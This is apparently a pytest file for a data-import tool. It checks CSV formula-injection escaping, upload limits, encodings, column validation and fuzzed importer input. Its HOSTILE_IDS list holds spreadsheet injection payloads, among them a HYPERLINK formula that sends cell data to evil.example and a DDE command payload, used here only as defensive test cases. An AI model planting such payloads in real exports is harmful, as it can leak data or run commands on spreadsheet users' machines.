"""Hostile CSVs: formula injection in exports, the upload limit, encodings, wrong columns, fuzzed importer input."""

from __future__ import annotations

import csv
import io
import tomllib
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from ingest_data import write_csv, write_images
from sqlalchemy import func, select

from core.config import REPO_ROOT, Settings, get_settings
from core.csvsafe import frame_to_csv, safe_cell
from core.ingest.clicks import import_clicks
from core.ingest.manifest import import_manifest
from core.ingest.report import ImportRejected
from core.ingest.users import import_users
from core.store import Ad, Category, ImportRun, Impression, User, session_scope
from core.uploads import UploadTooLarge

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-1+2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
               "=cmd|' /C calc'!A0"]
PLAIN_IDS = ["u001", "-5", "+3.5", "-1e3", "alice@example.com", "a=b", " =x"]


def counts(engine) -> dict[str, int]:
    with session_scope(engine) as s:
        return {m.__tablename__: s.scalar(select(func.count()).select_from(m)) for m in (Ad, Category, User, Impression, ImportRun)}


# --- formula injection in exports -----------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE_IDS)
def test_formula_like_text_gets_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN_IDS)
def test_plain_text_and_number_literals_are_unchanged(value):
    assert safe_cell(value) == value


def test_exported_audience_neutralises_hostile_user_ids_and_keeps_scores_numbers(home, engine):
    from core.audience.store import audience_csv, save_run

    users = HOSTILE_IDS + PLAIN_IDS
    scores = np.linspace(0.9, -0.4, len(users))  # a negative score is a number
    result = SimpleNamespace(audience_users=users, audience_scores=scores, package_id=None, model_run_id=None,
                             retriever="oracle", config={}, metrics=lambda: {}, run_id=None, audience_path=None)
    run_id = save_run(result, engine=engine)
    text = audience_csv(run_id, 1.0, engine=engine)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["user_id", "score"] and len(rows) == len(users) + 1
    got = {r[0]: r[1] for r in rows[1:]}
    for user in HOSTILE_IDS:
        assert "'" + user in got and user not in got
    for user in PLAIN_IDS:
        assert user in got
    for cell in got:  # what a spreadsheet would run as a formula: nothing
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell in ("-5", "+3.5", "-1e3")
    values = [float(v) for v in got.values()]
    assert values == pytest.approx(np.round(scores, 6).tolist()) and min(values) < 0
    assert not any(v.startswith("'") for v in got.values())


def test_frame_to_csv_leaves_numeric_columns_alone():
    frame = pd.DataFrame({"id": ["=1", "b"], "n": [-3, 4], "x": [-0.5, 1.5], "flag": [True, False]})
    assert frame_to_csv(frame).splitlines() == ["id,n,x,flag", "'=1,-3,-0.5,True", "b,4,1.5,False"]


# --- the upload limit --------------------------------------------------------------------------------


def test_streamlit_upload_limit_and_core_setting_agree():
    config = tomllib.loads((REPO_ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] == Settings.model_fields["max_upload_mb"].default
    assert config["server"]["maxMessageSize"] >= config["server"]["maxUploadSize"]


@pytest.mark.parametrize("which", ["manifest", "users", "clicks"])
def test_import_file_over_the_limit_is_refused_naming_the_limit(tmp_path, engine, monkeypatch, which):
    monkeypatch.setenv("ADLENS_MAX_UPLOAD_MB", "1")
    get_settings.cache_clear()
    path = tmp_path / f"{which}.csv"
    filler = "x" * 1000
    path.write_text("user_id,age\n" + "".join(f"u{i},{filler}\n" for i in range(1100)), encoding="utf-8")
    call = {"manifest": lambda: import_manifest(path, tmp_path, engine=engine),
            "users": lambda: import_users(path, engine=engine), "clicks": lambda: import_clicks(path, engine=engine)}[which]
    with pytest.raises(UploadTooLarge, match=f"{which}.csv is too large.*upload limit of 1 MB.*maxUploadSize"):
        call()
    assert set(counts(engine).values()) == {0}
    get_settings.cache_clear()


# --- encodings and columns -------------------------------------------------------------------------

USERS = "user_id,age,city\nu1,30,Zürich\nu2,41,Köln\n"
BAD_BYTES = {
    "latin-1": (USERS.encode("latin-1"), r"not UTF-8 text \(byte 0xfc on line 2"),
    "utf-16": (USERS.encode("utf-16"), "is UTF-16 text.*UTF-8 only"),
    "utf-16-be-bom": (b"\xfe\xff" + USERS.encode("utf-16-be"), "is UTF-16 text"),
    "utf-16-no-bom": (USERS.encode("utf-16-le"), "NUL byte on line 1"),
    "binary": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "not (UTF-8|a CSV text)"),
}


@pytest.mark.parametrize("kind", sorted(BAD_BYTES))
@pytest.mark.parametrize("importer", ["manifest", "users", "clicks"])
def test_non_utf8_files_are_refused_naming_the_encoding_and_nothing_changes(tmp_path, engine, kind, importer):
    data, pattern = BAD_BYTES[kind]
    path = tmp_path / "in.csv"
    path.write_bytes(data)
    write_images(tmp_path / "imgs", 1)
    before = counts(engine)
    with pytest.raises(ValueError, match=pattern) as info:
        {"manifest": lambda: import_manifest(path, tmp_path / "imgs", engine=engine),
         "users": lambda: import_users(path, engine=engine), "clicks": lambda: import_clicks(path, engine=engine)}[importer]()
    assert str(info.value).startswith("in.csv")
    assert "UTF-8" in str(info.value) and counts(engine) == before


def test_utf8_with_bom_is_read(tmp_path, engine):
    path = tmp_path / "u.csv"
    path.write_bytes(USERS.encode("utf-8-sig"))
    assert import_users(path, engine=engine).imported == 2


@pytest.mark.parametrize(("importer", "header", "expected"), [
    ("manifest", ["id", "txt", "image", "category"], "Expected columns: ad_id, text, image, category"),
    ("clicks", ["user", "ad_id", "click", "time"], "Expected columns: user_id, ad_id, clicked, timestamp"),
    ("users", ["id", "age"], "user_id"),
])
def test_wrong_columns_name_the_expected_ones_and_nothing_changes(tmp_path, engine, importer, header, expected):
    path = write_csv(tmp_path / "w.csv", header, [["1"] * len(header)])
    write_images(tmp_path / "imgs", 1)
    with pytest.raises(ValueError) as info:
        {"manifest": lambda: import_manifest(path, tmp_path / "imgs", engine=engine),
         "users": lambda: import_users(path, engine=engine), "clicks": lambda: import_clicks(path, engine=engine)}[importer]()
    assert expected in str(info.value) and str(info.value).startswith("w.csv")
    assert set(counts(engine).values()) == {0}


# --- property: any input imports or fails with a clear error, changing nothing ---------------------

COLUMNS = {"users": ["user_id", "age", "city"], "clicks": ["user_id", "ad_id", "clicked", "timestamp"],
           "manifest": ["ad_id", "text", "image", "category", "split", "lang"]}
NAMES = st.one_of(st.sampled_from(sorted({c for cols in COLUMNS.values() for c in cols})), st.text(max_size=8))
CELLS = st.one_of(st.sampled_from(["", "1", "0", "yes", "true", "2024-01-02 03:04:05", "img0.png", "a0", "u0", "u1", "c",
                                   "train", "test", "-1", "=1+1", "a,b", '"', "\n"]), st.text(max_size=12))

GOOD = {"user_id": ["u0", "u1", "u2"], "ad_id": ["a0", "a1"], "clicked": ["1", "0", "true"], "timestamp": ["2024-01-02 03:04:05"],
        "age": ["1", "30", ""], "city": ["Köln", "x"], "text": ["t"], "image": ["img0.png"], "category": ["c", "d"],
        "split": ["test", "train"], "lang": ["en", "zh"]}


@st.composite
def small_table(draw, importer: str) -> bytes:
    """Mostly the importer's own columns (shuffled, some dropped or renamed, extras added), random cells."""
    if draw(st.booleans()):
        columns = list(COLUMNS[importer])
        if importer == "manifest":
            columns = columns[: draw(st.integers(4, 6))]
        columns = draw(st.permutations(columns))
        if draw(st.integers(0, 3)) == 0:
            columns[draw(st.integers(0, len(columns) - 1))] = draw(NAMES)
        columns += draw(st.lists(NAMES, max_size=1))
    else:
        columns = draw(st.lists(NAMES, min_size=1, max_size=5))
    cells = [st.one_of(st.sampled_from(GOOD.get(c, ["x"])), st.sampled_from(GOOD.get(c, ["x"])), CELLS) for c in columns]
    rows = draw(st.lists(st.tuples(*cells), max_size=6))
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(columns)
    writer.writerows(rows)
    return buf.getvalue().encode("utf-8", errors="surrogatepass")


@st.composite
def importer_input(draw) -> tuple[str, bytes]:
    importer = draw(st.sampled_from(sorted(COLUMNS)))
    return importer, draw(st.one_of(st.binary(max_size=300), small_table(importer), small_table(importer)))


@pytest.fixture(scope="module")
def fuzz_world(tmp_path_factory):
    """One home for the property test: a user, an ad and its image, so some fuzzed rows can succeed."""
    import os

    from core.store import get_engine

    root = tmp_path_factory.mktemp("fuzz")
    old = {k: os.environ.get(k) for k in ("ADLENS_HOME", "ADLENS_DATABASE_URL")}
    os.environ["ADLENS_HOME"] = str(root / "home")
    os.environ.pop("ADLENS_DATABASE_URL", None)
    get_settings.cache_clear()
    engine = get_engine()
    write_images(root / "imgs", 1)
    import_manifest(write_csv(root / "m.csv", ["ad_id", "text", "image", "category"], [["a0", "t", "img0.png", "c"]]),
                    root / "imgs", engine=engine)
    import_users(write_csv(root / "u.csv", ["user_id", "age"], [["u0", "1"]]), engine=engine)
    yield engine, root
    for key, value in old.items():
        if value is None:
            os.environ.pop(key, None)
        else:
            os.environ[key] = value
    get_settings.cache_clear()


def _snapshot(engine) -> tuple:
    with session_scope(engine) as s:
        return (
            s.execute(select(User.id, User.features).order_by(User.id)).all(),
            s.execute(select(Ad.id, Ad.content_hash).order_by(Ad.id)).all(),
            s.scalar(select(func.count()).select_from(Impression)),
            s.scalar(select(func.count()).select_from(Category)),
        )


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(case=importer_input())
def test_importers_import_or_fail_clearly_and_a_failure_changes_nothing(fuzz_world, case):
    importer, data = case
    engine, root = fuzz_world
    path = root / "fuzz.csv"
    path.write_bytes(data)
    before = _snapshot(engine)
    call = {"manifest": lambda: import_manifest(path, root / "imgs", engine=engine),
            "users": lambda: import_users(path, engine=engine), "clicks": lambda: import_clicks(path, engine=engine)}[importer]
    try:
        report = call()
    except ImportRejected as exc:
        event(f"{importer}: rows rejected")
        assert exc.report.errors and all(e.row >= 2 for e in exc.report.errors)
    except ValueError as exc:  # the whole file is unusable: the message says which file and why
        event(f"{importer}: file refused")
        assert str(exc).startswith("fuzz.csv"), repr(exc)
    else:
        event(f"{importer}: imported")
        assert report.ok
        return
    assert _snapshot(engine) == before
